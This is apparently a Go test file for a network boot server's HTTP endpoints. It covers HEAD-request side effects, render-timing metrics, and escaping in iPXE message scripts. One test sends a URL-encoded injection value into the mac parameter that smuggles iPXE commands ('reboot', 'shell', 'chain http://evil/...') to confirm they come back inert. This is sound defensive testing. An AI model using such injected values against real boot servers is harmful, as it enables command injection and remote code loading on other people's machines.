package httpd_test

import (
	"net/http"
	"strings"
	"testing"
)

// TestIPXEHead: a HEAD /ipxe (curl -I, a probe) answers a script's headers
// without making one: no boot is recorded, no token minted, no render
// timed.
func TestIPXEHead(t *testing.T) {
	e := newEnv(t, envOpts{})
	before := len(e.events(macA))
	state := e.machine(macA).State
	h := e.do(http.MethodHead, "/ipxe?mac="+macA, nil, nil)
	if h.code != http.StatusOK || h.body != "" || !strings.HasPrefix(h.header.Get("Content-Type"), "text/plain") {
		t.Errorf("HEAD /ipxe: %d %q %q, want 200, no body, text/plain", h.code, h.body, h.header.Get("Content-Type"))
	}
	if after := len(e.events(macA)); after != before {
		t.Errorf("HEAD /ipxe recorded %d event(s)", after-before)
	}
	if got := e.machine(macA).State; got != state {
		t.Errorf("HEAD /ipxe moved the machine from %q to %q", state, got)
	}
	if m := e.get("/metrics"); strings.Contains(m.body, "bootsrv_render_seconds_count 1") {
		t.Errorf("HEAD /ipxe timed a render:\n%s", m.body)
	}
}

// TestRenderSecondsOnlySuccess: refused requests are not renders.
func TestRenderSecondsOnlySuccess(t *testing.T) {
	e := newEnv(t, envOpts{})
	e.get("/ipxe?mac=" + macUnknown)
	e.get("/ipxe?mac=zz")
	e.get("/ignition?mac=" + macA + "&token=garbage")
	m := e.get("/metrics")
	if !strings.Contains(m.body, "bootsrv_render_seconds_count 0") {
		t.Errorf("failed renders were timed:\n%s", m.body)
	}
	e.ignitionToken(macA)
	if m := e.get("/metrics"); !strings.Contains(m.body, "bootsrv_render_seconds_count 1") {
		t.Errorf("a served boot script was not timed:\n%s", m.body)
	}
}

// TestIPXEMessageEchoesNoSyntax: what the requester sends comes back in
// the message script only as inert text.
func TestIPXEMessageEchoesNoSyntax(t *testing.T) {
	e := newEnv(t, envOpts{})
	r := e.get("/ipxe?mac=x%7C%7Creboot%20%26%26%20shell%0Achain%20http://evil/%24%7Bnet0/mac%7D")
	if r.code != http.StatusBadRequest || !strings.HasPrefix(r.body, "#!ipxe\n") {
		t.Fatalf("%d\n%s", r.code, r.body)
	}
	for _, bad := range []string{"||", "&&", "${", "\nchain", "\nshell"} {
		if strings.Contains(r.body, bad) {
			t.Errorf("message script carries %q:\n%s", bad, r.body)
		}
	}
}
